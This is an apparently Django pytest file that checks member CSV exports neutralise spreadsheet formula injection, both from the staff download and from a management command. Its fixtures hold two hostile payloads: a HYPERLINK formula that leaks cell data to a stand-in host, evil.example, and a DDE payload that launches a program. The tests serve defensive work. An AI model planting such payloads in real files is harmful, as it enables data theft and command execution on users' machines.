"""The member CSV, downloaded by staff or written by the command, never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client

from masthead.access import services
from masthead.members.models import Profile
from masthead.members.tests.staff_fixtures import membership_staff  # noqa: F401 - fixture

NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def mallory(db: Any) -> Any:
    user = get_user_model().objects.create_user("mallory", "mallory@example.com", None)
    Profile.objects.create(user=user, display_name=NAME)
    services.grant_comp(user=user, until=date(2099, 1, 1), note=NOTE)
    return user


def _mallory_row(text: str) -> dict[str, str]:
    return next(r for r in csv.DictReader(io.StringIO(text)) if r["email"] == "mallory@example.com")


def _assert_defused(row: dict[str, str]) -> None:
    assert row["name"] == "'" + NAME
    assert row["note"] == "'" + NOTE


def test_the_staff_download_defuses_formulas(client: Client, membership_staff: Any, mallory: Any) -> None:  # noqa: F811
    client.force_login(membership_staff)
    _assert_defused(_mallory_row(client.get("/admin/members/export.csv").content.decode()))


def test_the_export_command_defuses_formulas(mallory: Any, tmp_path: Path) -> None:
    target = tmp_path / "members.csv"
    call_command("export_members", str(target))
    _assert_defused(_mallory_row(target.read_text(encoding="utf-8")))
    out = io.StringIO()
    call_command("export_members", "-", stdout=out)
    _assert_defused(_mallory_row(out.getvalue()))
